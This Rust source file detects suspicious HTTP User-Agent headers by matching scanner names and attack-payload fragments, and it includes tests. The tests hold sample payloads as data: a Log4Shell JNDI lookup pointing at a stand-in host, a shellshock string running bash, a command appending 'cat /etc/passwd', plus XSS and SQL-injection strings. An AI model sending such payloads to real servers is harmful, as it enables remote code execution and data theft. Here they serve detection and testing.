//! Suspicious user agents: known attack and scanning tools, and script payloads smuggled into
//! the `User-Agent` header. Only the label travels (`scanner:sqlmap`, `payload:jndi`).

/// Tools whose default user agent names them (matched case-insensitively).
const SCANNERS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "zgrab",
    "nuclei",
    "dirbuster",
    "gobuster",
    "feroxbuster",
    "wfuzz",
    "ffuf",
    "hydra",
    "acunetix",
    "nessus",
    "openvas",
    "burpcollaborator",
    "zaproxy",
    "owasp zap",
    "w3af",
    "wpscan",
    "joomscan",
    "arachni",
    "skipfish",
    "whatweb",
    "commix",
    "xsstrike",
    "jaeles",
    "netsparker",
    "appscan",
    "havij",
    "fimap",
    "dirb/",
];

/// Payload fragments that have no business in a user agent.
const PAYLOADS: &[(&str, &str)] = &[
    ("${jndi:", "jndi"),
    ("() {", "shellshock"),
    ("<script", "xss"),
    ("javascript:", "xss"),
    ("onerror=", "xss"),
    ("union select", "sqli"),
    ("' or '", "sqli"),
    ("sleep(", "sqli"),
    ("../", "traversal"),
    ("<?php", "code"),
    ("{{", "ssti"),
    ("%{(", "ognl"),
];

/// Longest user agent examined, in bytes.
pub const MAX_AGENT_BYTES: usize = 1024;

/// Every needle in priority order: payloads first, then scanners.
const NEEDLES: usize = PAYLOADS.len() + SCANNERS.len();

fn needle(i: usize) -> &'static [u8] {
    if i < PAYLOADS.len() {
        PAYLOADS[i].0.as_bytes()
    } else {
        SCANNERS[i - PAYLOADS.len()].as_bytes()
    }
}

/// For each byte, the needles holding it at `at` (bit `i` = needle `i`).
const fn by_byte(at: usize) -> [u64; 256] {
    const { assert!(NEEDLES <= 64) };
    let mut table = [0u64; 256];
    let mut i = 0;
    while i < NEEDLES {
        let n = if i < PAYLOADS.len() {
            PAYLOADS[i].0.as_bytes()
        } else {
            SCANNERS[i - PAYLOADS.len()].as_bytes()
        };
        assert!(n.len() >= 2, "needles are at least two bytes long");
        // Both cases, so the scan needs no lower-casing (needles are lower case).
        table[n[at] as usize] |= 1 << i;
        table[n[at].to_ascii_uppercase() as usize] |= 1 << i;
        i += 1;
    }
    table
}

const BY_FIRST_BYTE: [u64; 256] = by_byte(0);
const BY_SECOND_BYTE: [u64; 256] = by_byte(1);

/// The highest-priority needle contained in `ua` (ASCII case-insensitively), in one pass: at
/// each position only the needles starting with that byte pair are compared.
fn first_needle(ua: &[u8]) -> Option<usize> {
    let mut best = NEEDLES;
    for (at, pair) in ua.windows(2).enumerate() {
        let first = BY_FIRST_BYTE[usize::from(pair[0])];
        if first == 0 {
            continue;
        }
        let mut candidates = first & BY_SECOND_BYTE[usize::from(pair[1])];
        // Only needles of a higher priority than the best match so far.
        candidates &= (1u64 << best) - 1;
        while candidates != 0 {
            let i = candidates.trailing_zeros() as usize;
            candidates &= candidates - 1;
            let n = needle(i);
            if ua.len() - at >= n.len()
                && ua[at..at + n.len()]
                    .iter()
                    .zip(n)
                    .all(|(h, n)| h.to_ascii_lowercase() == *n)
            {
                best = i;
                break;
            }
        }
        if best == 0 {
            break;
        }
    }
    (best < NEEDLES).then_some(best)
}

/// The label of a suspicious user agent, if it is one.
pub fn suspicious(user_agent: &str) -> Option<&'static str> {
    let ua = user_agent
        .get(..MAX_AGENT_BYTES.min(user_agent.len()))
        .unwrap_or(user_agent);
    if ua.is_empty() || ua == "-" {
        return None;
    }
    let i = first_needle(ua.as_bytes())?;
    if let Some((_, label)) = PAYLOADS.get(i) {
        return Some(match *label {
            "jndi" => "payload:jndi",
            "shellshock" => "payload:shellshock",
            "xss" => "payload:xss",
            "sqli" => "payload:sqli",
            "traversal" => "payload:traversal",
            "code" => "payload:code",
            "ssti" => "payload:ssti",
            _ => "payload:ognl",
        });
    }
    Some(match SCANNERS[i - PAYLOADS.len()] {
        "sqlmap" => "scanner:sqlmap",
        "nikto" => "scanner:nikto",
        "nmap" => "scanner:nmap",
        "masscan" => "scanner:masscan",
        "zgrab" => "scanner:zgrab",
        "nuclei" => "scanner:nuclei",
        "wpscan" => "scanner:wpscan",
        "acunetix" => "scanner:acunetix",
        "hydra" => "scanner:hydra",
        "ffuf" | "wfuzz" | "gobuster" | "dirbuster" | "feroxbuster" | "dirb/" => "scanner:fuzzer",
        _ => "scanner:other",
    })
}

/// Bytes of a product name or version in a user agent (RFC 9110 `token`, without the
/// characters shells and SQL give meaning to).
fn product_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b'+' | b'~' | b'!' | b'#' | b'*')
}

/// The comments of a user agent that is made of product tokens and comments only
/// (`product[/version] *( product / "(" comment ")" )`, RFC 9110 §10.1.5), or `None` when it is
/// not: client tools (`curl/8.5.0`, `python-requests/2.32.3`, `Go-http-client/1.1`) and browsers
/// name products, which are never an injection; only what their comments say can be.
pub fn product_comments(user_agent: &str) -> Option<Vec<&str>> {
    let ua = user_agent.get(..MAX_AGENT_BYTES.min(user_agent.len()))?;
    let b = ua.as_bytes();
    let mut comments = Vec::new();
    let mut i = 0;
    let mut products = 0;
    while i < b.len() {
        match b[i] {
            b' ' => i += 1,
            b'(' => {
                let start = i + 1;
                let mut depth = 0usize;
                loop {
                    match b.get(i)? {
                        b'(' => depth += 1,
                        b')' => depth -= 1,
                        c if c.is_ascii_control() => return None,
                        _ => {}
                    }
                    i += 1;
                    if depth == 0 {
                        break;
                    }
                }
                comments.push(&ua[start..i - 1]);
            }
            _ => {
                let name = b[i..].iter().take_while(|c| product_byte(**c)).count();
                if name == 0 {
                    return None;
                }
                i += name;
                if b.get(i) == Some(&b'/') {
                    let version = b[i + 1..].iter().take_while(|c| product_byte(**c)).count();
                    if version == 0 {
                        return None;
                    }
                    i += 1 + version;
                }
                if !matches!(b.get(i), None | Some(b' ' | b'(')) {
                    return None;
                }
                products += 1;
            }
        }
    }
    (products > 0).then_some(comments)
}

/// The plain definition [`suspicious`] must agree with (lower-case, then search each needle).
#[cfg(test)]
fn suspicious_reference(user_agent: &str) -> Option<usize> {
    let ua = user_agent
        .get(..MAX_AGENT_BYTES.min(user_agent.len()))
        .unwrap_or(user_agent);
    let lower = ua.to_ascii_lowercase();
    (0..NEEDLES).find(|i| {
        lower
            .as_bytes()
            .windows(needle(*i).len())
            .any(|w| w == needle(*i))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn labels() {
        assert_eq!(
            suspicious("sqlmap/1.7.2#stable (https://sqlmap.org)"),
            Some("scanner:sqlmap")
        );
        assert_eq!(
            suspicious("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
            Some("scanner:nikto")
        );
        assert_eq!(
            suspicious("Fuzz Faster U Fool v2.1.0 ffuf"),
            Some("scanner:fuzzer")
        );
        assert_eq!(
            suspicious("${jndi:ldap://x.example/a}"),
            Some("payload:jndi")
        );
        assert_eq!(
            suspicious("() { :; }; /bin/bash -c id"),
            Some("payload:shellshock")
        );
        assert_eq!(suspicious("<script>alert(1)</script>"), Some("payload:xss"));
        for benign in [
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            "curl/8.5.0",
            "python-requests/2.32.3",
            "okhttp/4.12.0",
            "Zapier",
            "-",
            "",
        ] {
            assert_eq!(suspicious(benign), None, "{benign:?}");
        }
        // Priority: a payload wins over a scanner name, earlier needles over later ones.
        assert_eq!(suspicious("sqlmap ${jndi:x}"), Some("payload:jndi"));
        assert_eq!(suspicious("NUCLEI and SQLMAP"), Some("scanner:sqlmap"));
    }

    #[test]
    fn product_tokens() {
        assert_eq!(product_comments("curl/8.5.0"), Some(vec![]));
        assert_eq!(
            product_comments("Apache-HttpClient/4.5.14 (Java/17.0.2)"),
            Some(vec!["Java/17.0.2"])
        );
        assert_eq!(
            product_comments(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
            ),
            Some(vec!["Windows NT 10.0; Win64; x64", "KHTML, like Gecko"])
        );
        for not_products in [
            "() { :; }; /bin/bash -c id",
            "${jndi:ldap://x.example/a}",
            "curl/8.5.0; cat /etc/passwd",
            "<script>alert(1)</script>",
            "' or 1=1--",
            "(unclosed",
            "",
        ] {
            assert_eq!(product_comments(not_products), None, "{not_products:?}");
        }
    }

    proptest::proptest! {
        #[test]
        fn one_pass_matches_the_plain_search(
            ua in "(\\PC|sqlmap|NMap|dirb/|\\$\\{jndi:|<ScRipt|\\.\\./|\\{\\{|owasp zap){0,12}"
        ) {
            let want = suspicious_reference(&ua).filter(|_| !ua.is_empty() && ua != "-");
            proptest::prop_assert_eq!(first_needle(ua.as_bytes()).filter(|_| !ua.is_empty() && ua != "-"), want);
        }
    }
}
